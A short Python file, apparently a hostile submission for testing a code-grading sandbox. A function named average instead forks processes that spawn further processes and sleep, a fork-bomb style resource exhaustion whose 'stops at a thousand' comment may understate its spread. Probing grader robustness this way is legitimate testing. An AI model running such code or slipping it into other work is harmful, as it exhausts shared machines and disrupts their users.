# Starts processes that start processes. (Stops by itself at a thousand.)
#
# points: average 0
# %% answer="average"
import os
import time


def average(numbers):
    for _ in range(1000):
        try:
            if os.fork() == 0:
                time.sleep(600)
        except OSError:
            pass
    time.sleep(600)
